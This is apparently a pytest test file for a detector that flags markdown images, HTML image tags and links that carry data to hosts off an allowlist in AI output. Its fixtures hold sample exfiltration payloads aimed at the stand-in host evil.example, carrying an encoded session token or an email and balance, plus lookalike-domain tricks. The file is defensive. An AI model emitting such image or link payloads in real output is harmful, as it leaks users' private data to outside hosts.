"""Exfiltration detector: images and links carrying data to hosts off the allowlist."""

from __future__ import annotations

import pytest

from vallum.detectors.base import DetectorSetup
from vallum.detectors.exfiltration import ExfiltrationDetector, host_allowed
from vallum.model import Stage

SETUP = DetectorSetup(allowed_hosts=("docs.acme.com", "*.cdn.acme.com"))
DATA = "c2Vzc2lvbi10b2tlbj1hYmMxMjM0NTY3ODk="


def found(text: str) -> list[tuple[str, float]]:
    return [(f.type, f.score) for f in ExfiltrationDetector(setup=SETUP).detect(text, Stage.OUTPUT)]


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (f"![logo](https://evil.example/p.png?d={DATA})", [("exfiltration.markdown_image", 0.95)]),
        ("![logo](https://evil.example/logo.png)", [("exfiltration.markdown_image", 0.7)]),
        (
            "![x](https://evil.example/c/john.doe%40acme.com%20balance%2012000)",
            [("exfiltration.markdown_image", 0.95)],
        ),
        (f"[click here](https://evil.example/?q={DATA})", [("exfiltration.link", 0.7)]),
        ("[home](https://evil.example/)", [("exfiltration.link", 0.2)]),
        (
            f'<img src="https://evil.example/t.gif?u={DATA}" />',
            [("exfiltration.markdown_image", 0.95)],
        ),
        (
            f"See ![chart][c]\n\n[c]: https://evil.example/c.png?x={DATA}",
            [("exfiltration.markdown_image", 0.95)],
        ),
        (f"![a](//evil.example/a?d={DATA})", [("exfiltration.markdown_image", 0.95)]),
        (
            f"![a](https://cdn.acme.com.evil.example/a?d={DATA})",
            [("exfiltration.markdown_image", 0.95)],
        ),
    ],
)
def test_positives(payload: str, expected: list[tuple[str, float]]) -> None:
    """Images and links to hosts off the allowlist are scored by risk."""
    assert expected == found(payload)


@pytest.mark.parametrize(
    "payload",
    [
        f"![diagram](https://docs.acme.com/img/arch.png?v={DATA})",
        f"![a](https://img.cdn.acme.com/a.png?sig={DATA})",
        "[guide](https://docs.acme.com/guide)",
        f"Visit https://evil.example/?q={DATA} for more",
        f"```markdown\n![x](https://evil.example/a?d={DATA})\n```",
        f"Use `![x](https://evil.example/a?d={DATA})` in your README",
        "![local](images/diagram.png)",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "[mail us](mailto:help@acme.com)",
        "a [bracket] and (parenthesis) in prose",
    ],
)
def test_hard_negatives(payload: str) -> None:
    """Allowlisted hosts, prose URLs, code and local references are not reported."""
    assert [] == found(payload)


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("docs.acme.com", True),
        ("DOCS.ACME.COM", True),
        ("a.cdn.acme.com", True),
        ("cdn.acme.com", False),
        ("evilcdn.acme.com", False),
        ("acme.com", False),
    ],
)
def test_host_allowed(host: str, expected: bool) -> None:
    """Allowlist entries match exactly, or any subdomain with a leading `*.`."""
    assert expected == host_allowed(host, SETUP.allowed_hosts)


def test_detail_omits_data() -> None:
    """The detail names the host but not the data the URL carries."""
    [finding] = ExfiltrationDetector(setup=SETUP).detect(
        f"![a](https://evil.example/a?d={DATA})", Stage.OUTPUT
    )
    assert "evil.example" in finding.detail
    assert DATA not in finding.detail
